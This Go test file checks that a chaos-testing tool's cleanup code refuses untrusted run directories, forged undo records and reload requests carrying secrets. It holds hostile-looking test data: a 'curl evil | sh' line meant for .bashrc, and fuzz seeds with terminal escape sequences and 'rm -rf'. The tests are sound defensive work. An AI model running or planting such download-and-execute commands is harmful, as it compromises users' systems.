package cleanup

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"unicode"

	"github.com/blastgauge/blastgauge/experiments"
	"github.com/blastgauge/blastgauge/experiments/journal"
	"github.com/blastgauge/blastgauge/experiments/plan"
	"github.com/blastgauge/blastgauge/experiments/run/engine"
	"github.com/blastgauge/blastgauge/injectors"
	"github.com/blastgauge/blastgauge/injectors/configfile"
)

// A directory that is not on the list may be anybody's: it is named, or shown, and what
// is done with a person's trust has bounds that it does not set.
func TestAForeignDirectoryIsNotObeyed(t *testing.T) {
	t.Parallel()
	d := newDeadRun(t, underFault...)
	d.unlist(t)
	before := d.toxics(t)
	if err := All(t.Context(), []string{d.dir, t.TempDir()}, d.options); !errors.Is(err, experiments.ErrRefused) || !strings.Contains(err.Error(), d.dir) {
		t.Errorf("All() = %v", err)
	}
	if err := Run(t.Context(), d.dir, d.options); !errors.Is(err, experiments.ErrRefused) || !strings.Contains(err.Error(), "--trust") {
		t.Errorf("Run() = %v", err)
	}
	if !strings.Contains(d.log.String(), d.fault().Name) {
		t.Errorf("it is not said what would be done:\n%s", d.log.String())
	}
	if d.toxics(t) != before {
		t.Errorf("it was obeyed: %s", d.toxics(t))
	}
	if names, err := filepath.Glob(filepath.Join(d.dir, "*")); err != nil || len(names) != 2 {
		t.Errorf("in its directory: %v, %v", names, err)
	}
	trusting := d.options
	trusting.Trust = &Trust{}
	if err := Run(t.Context(), d.dir, trusting); err != nil {
		t.Fatal(err)
	}
	d.wantClean(t)
	if err := errors.Join(Run(t.Context(), d.dir, d.options), All(t.Context(), []string{d.dir}, d.options)); err != nil {
		t.Errorf("once it is clean: %v", err)
	}
}

// A copy of a listed run's directory is not that directory.
func TestACopyOfADirectoryIsForeign(t *testing.T) {
	t.Parallel()
	d := newDeadRun(t, underFault...)
	copied := filepath.Join(t.TempDir(), "copy")
	if err := os.CopyFS(copied, os.DirFS(d.dir)); err != nil {
		t.Fatal(err)
	}
	if err := Run(t.Context(), copied, d.options); !errors.Is(err, experiments.ErrRefused) || d.toxics(t) == "[]" {
		t.Errorf("Run() = %v, left %s", err, d.toxics(t))
	}
	link := filepath.Join(t.TempDir(), "link")
	if err := os.Symlink(d.dir, link); err != nil {
		t.Fatal(err)
	}
	if err := Run(t.Context(), link, d.options); err != nil {
		t.Errorf("Run() by another path = %v", err)
	}
	d.wantClean(t)
}

// A person's trust does not reach hosts outside of staging.
func TestTrustDoesNotReachOtherHosts(t *testing.T) {
	t.Parallel()
	d := newDeadRun(t)
	d.unlist(t)
	d.plan.System.Toxiproxy, d.plan.System.AllowHosts = "http://192.0.2.1:8474", []string{"192.0.2.1"}
	d.rewrite(t, underFault)
	o := d.options
	o.Trust = &Trust{}
	if err := Run(t.Context(), d.dir, o); !errors.Is(err, experiments.ErrRefused) || errors.Is(err, engine.ErrNotRemoved) {
		t.Errorf("Run() = %v", err)
	}
}

// rewrite writes the journal anew.
func (d *deadRun) rewrite(t *testing.T, events []journal.Kind) {
	t.Helper()
	for _, name := range []string{journal.EventsFile, journal.ObservationsFile} {
		if err := os.Remove(filepath.Join(d.dir, name)); err != nil {
			t.Fatal(err)
		}
	}
	d.record(t, events)
}

// A reload request is sent only if the user's own experiments have it: it may carry
// secrets, and without them it still is a request to a port of the directory's choice.
func TestAForeignReloadIsNotSent(t *testing.T) {
	t.Parallel()
	reload := func(value string) *experiments.Reload {
		return &experiments.Reload{Request: experiments.Request{Method: "POST", Target: "http://127.0.0.1:1/reload", Headers: []experiments.Field{{Name: "Authorization", Value: value}}}}
	}
	fault := func(value string) plan.Fault {
		return plan.Fault{Fault: experiments.Fault{Inject: "http_config", Reload: reload(value)}}
	}
	const secret = "Bearer ${env:AWS_SECRET_ACCESS_KEY}"
	own := &experiments.Experiment{Faults: []experiments.Fault{{Inject: "http_config", Reload: reload(secret)}}}
	plain := &experiments.Experiment{Faults: []experiments.Fault{{Inject: "http_config", Reload: reload("none")}}}
	for name, tt := range map[string]struct {
		fault plan.Fault
		own   []*experiments.Experiment
		may   bool
	}{
		"without a secret":         {fault("none"), nil, false},
		"of its own":               {fault("none"), []*experiments.Experiment{plain}, true},
		"without a request":        {plan.Fault{}, nil, true},
		"with a secret":            {fault(secret), nil, false},
		"with a secret of its own": {fault(secret), []*experiments.Experiment{own}, true},
		"with another one":         {fault("Bearer ${env:OTHER}"), []*experiments.Experiment{own}, false},
	} {
		b := &bounds{trust: Trust{Experiments: tt.own}}
		if err := b.mayReload(tt.fault); (err == nil) != tt.may {
			t.Errorf("%s: %v", name, err)
		}
	}
	// What is shown as carried must be all that is filled in.
	for _, form := range []string{"${env X}", "${env: X}", "${env:X }", "${env:\u00a0X}"} {
		if _, err := experiments.ParseTemplate(form); err == nil && len(variables(fault(form))) == 0 {
			t.Errorf("a foreign reload may carry %q", form)
		}
	}
}

// Nothing is sent to a port of the directory's choice, and a person is told what was not.
func TestAForeignDirectorySendsNothing(t *testing.T) {
	t.Parallel()
	d := newDeadRun(t)
	var met atomic.Int32
	port := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { met.Add(1) }))
	defer port.Close()
	d.unlist(t)
	f := &d.plan.Experiments[0].Faults[0]
	if err := d.driver.Revert(t.Context(), *f); err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(t.TempDir(), "app.yaml")
	if err := os.WriteFile(file, []byte(goodFile), 0o600); err != nil {
		t.Fatal(err)
	}
	f.Inject, f.Proxy = configfile.Kind, ""
	f.Attributes = injectors.Attributes{"file": file, "truncate": map[string]any{"keep": 0.5}}
	f.Reload = &experiments.Reload{Request: experiments.Request{Method: "POST", Target: port.URL + "/reload"}}
	d.rewrite(t, underFault)
	if err := configfile.New(configfile.Options{Run: openRoot(t, d.dir)}).Inject(t.Context(), *f); err != nil {
		t.Fatal(err)
	}
	o := d.options
	o.Trust = &Trust{}
	if err := Run(t.Context(), d.dir, o); !errors.Is(err, engine.ErrNotRemoved) || !errors.Is(err, errNotSent) || !strings.Contains(err.Error(), "POST "+port.URL+"/reload") {
		t.Errorf("Run() = %v", err)
	}
	if n := met.Load(); n != 0 {
		t.Errorf("%d requests were sent", n)
	}
	if text, err := os.ReadFile(file); err != nil || string(text) != goodFile {
		t.Errorf("the file is %q, %v", text, err)
	}
	o.Trust = &Trust{Experiments: []*experiments.Experiment{{Faults: []experiments.Fault{{Inject: configfile.Kind, Reload: f.Reload}}}}}
	if err := Run(t.Context(), d.dir, o); err != nil || met.Load() != 1 {
		t.Errorf("Run() = %v, and %d requests were sent", err, met.Load())
	}
}

// Where nothing says what a run did, a person is told how to look, and nobody says that
// all is well.
func TestWhatNothingTellsIsForAPerson(t *testing.T) {
	t.Parallel()
	const record = "blastgauge.x.1.json"
	for name, tt := range map[string]struct {
		listed bool
		trust  *Trust
		spoil  func(t *testing.T, d *deadRun)
		want   error
		by     string // what a person can do
	}{
		"foreign without a plan": {false, nil, func(*testing.T, *deadRun) {}, experiments.ErrRefused, "--trust"},
		"trusted without a plan": {false, &Trust{}, func(*testing.T, *deadRun) {}, engine.ErrNotRemoved, "recover --toxiproxy URL"},
		"an original of no fault of the plan": {true, nil, func(t *testing.T, d *deadRun) {
			undo := filepath.Join(d.dir, configfile.UndoDir)
			if err := errors.Join(os.Mkdir(undo, 0o700), os.WriteFile(filepath.Join(undo, record), []byte("{}"), 0o600)); err != nil {
				t.Fatal(err)
			}
		}, engine.ErrNotRemoved, record},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			d := newDeadRun(t)
			if !tt.listed {
				d.unlist(t)
			}
			tt.spoil(t, d)
			o := d.options
			o.Trust = tt.trust
			for range 2 {
				if err := Run(t.Context(), d.dir, o); !errors.Is(err, tt.want) || !strings.Contains(err.Error(), tt.by) {
					t.Errorf("Run() = %v", err)
				}
			}
		})
	}
}

// An entry of an older version says only where the server is: toxics are known by the
// name of the run.
func TestAnEntryOfAnOlderVersion(t *testing.T) {
	t.Parallel()
	d := newDeadRun(t, underFault...)
	d.unlist(t)
	entry := map[string]any{"run": d.plan.Run, "dir": d.dir, "toxiproxy": d.system.Toxiproxy, "pid": 1}
	text, err := json.Marshal(entry)
	if err != nil {
		t.Fatal(err)
	}
	dir := filepath.Join(filepath.Dir(d.dir), "state", "blastgauge", "runs")
	if err := os.WriteFile(filepath.Join(dir, d.plan.Run+".json"), text, 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(d.dir, journal.EventsFile), []byte(`{"seq":1,"kind":"run_started"}`+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := All(t.Context(), nil, d.options); err != nil {
		t.Fatal(err)
	}
	d.wantClean(t)
}

// A run that is alive is left alone, also when its directory is gone.
func TestALiveRunWithoutItsDirectory(t *testing.T) {
	t.Parallel()
	d := newDeadRun(t, underFault...)
	release, err := d.options.Registry.Add(d.open())
	if err != nil {
		t.Fatal(err)
	}
	if err := os.RemoveAll(d.dir); err != nil {
		t.Fatal(err)
	}
	before := d.toxics(t)
	o := d.options
	o.Stop = true
	for _, options := range []Options{d.options, o} {
		if err := Run(t.Context(), d.dir, options); !errors.Is(err, journal.ErrAlive) || !errors.Is(err, experiments.ErrRefused) {
			t.Errorf("Run() = %v", err)
		}
	}
	if err := All(t.Context(), nil, d.options); err != nil || d.toxics(t) != before {
		t.Errorf("All() = %v, left %s", err, d.toxics(t))
	}
	release()
	if err := All(t.Context(), nil, d.options); err != nil {
		t.Error(err)
	}
	d.wantClean(t)
}

// A forged record, in a directory with checksums that are right, replaces no file: not
// one that the plan does not name, and none without the fault's mark beside it.
func TestTrustPutsBackMarkedFilesOnly(t *testing.T) {
	t.Parallel()
	digest := func(text string) string {
		sum := sha256.Sum256([]byte(text))
		return "sha256:" + hex.EncodeToString(sum[:])
	}
	const mine, evil = "# as it was\n", "curl evil | sh\n"
	for name, planned := range map[string]string{"the plan names another file": "app.json", "the plan names it": ".bashrc"} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			d := newDeadRun(t)
			d.unlist(t)
			home := t.TempDir()
			f := &d.plan.Experiments[0].Faults[0]
			f.Inject, f.Proxy = configfile.Kind, ""
			f.Attributes = injectors.Attributes{"file": filepath.Join(home, planned), "truncate": map[string]any{"keep": 0.5}}
			d.rewrite(t, underFault)
			record, err := json.Marshal(map[string]any{
				"fault": f.Name, "tree": home, "rel": ".bashrc", "original": digest(evil), "bad": []string{digest(mine)},
				"mode": 0o755, "uid": os.Getuid(), "gid": os.Getgid(), "change": map[string]any{"file": filepath.Join(home, ".bashrc"), "after": digest(mine)},
			})
			if err != nil {
				t.Fatal(err)
			}
			undo := filepath.Join(d.dir, configfile.UndoDir)
			for file, text := range map[string]string{
				filepath.Join(home, ".bashrc"): mine, filepath.Join(home, "app.json"): mine,
				filepath.Join(undo, f.Name+".json"): string(record), filepath.Join(undo, f.Name+".original"): evil,
			} {
				if err := errors.Join(os.MkdirAll(filepath.Dir(file), 0o700), os.WriteFile(file, []byte(text), 0o600)); err != nil {
					t.Fatal(err)
				}
			}
			o := d.options
			o.Trust = &Trust{}
			if err := Run(t.Context(), d.dir, o); !errors.Is(err, engine.ErrNotRemoved) {
				t.Errorf("Run() = %v", err)
			}
			for _, file := range []string{".bashrc", "app.json"} {
				text, err := os.ReadFile(filepath.Join(home, file))
				if err != nil || string(text) != mine {
					t.Errorf("%s is now %q, %v", file, text, err)
				}
			}
		})
	}
}

// Whatever a stranger's journal holds, it is shown on plain lines, and nothing breaks.
func FuzzForeignJournal(f *testing.F) {
	f.Add(`{"run":"r","experiments":[{"id":"e","faults":[{"name":"blastgauge.r.1","inject":"latency","into":"a\nb","proxy":"\u001b]52;c","attributes":{"latency":1}}]}]}`)
	f.Add(`{"run":"::error::","experiments":[{"faults":[{"inject":"config_file","attributes":{"file":7,"match":3,"scale":[]}}]}]}`)
	f.Add(`{"experiments":[{"faults":[{"inject":"http_config","reload":{"request":{"method":"\n","target":"${env:A}"}}}]}],"system":{"toxiproxy":"%zz"}}`)
	f.Add(`{"experiments":[{"faults":[{"name":"blastgauge.r.1","inject":"command","attributes":{"do":7,"undo":["rm\u001b","-rf",{}],"dir":[]}},{"inject":"command"}]}]}`)
	f.Fuzz(func(t *testing.T, text string) {
		var p plan.Plan
		if json.Unmarshal([]byte(text), &p) != nil {
			return
		}
		dir := t.TempDir()
		root := openRoot(t, dir)
		log, err := journal.Create(root)
		if err != nil {
			t.Fatal(err)
		}
		err = log.Record(journal.Event{Kind: journal.RunStarted, Plan: &p})
		if err := errors.Join(err, log.Close()); err != nil {
			t.Fatal(err)
		}
		var said bytes.Buffer
		err = Run(t.Context(), dir, Options{Log: &said}.withDefaults())
		if !errors.Is(err, experiments.ErrRefused) {
			t.Errorf("Run() = %v", err)
		}
		for line := range strings.Lines(said.String()) {
			if !strings.HasPrefix(line, shown(dir)+": ") || strings.ContainsFunc(strings.TrimSuffix(line, "\n"), func(r rune) bool { return !unicode.IsPrint(r) }) {
				t.Errorf("it says %q", line)
			}
		}
	})
}
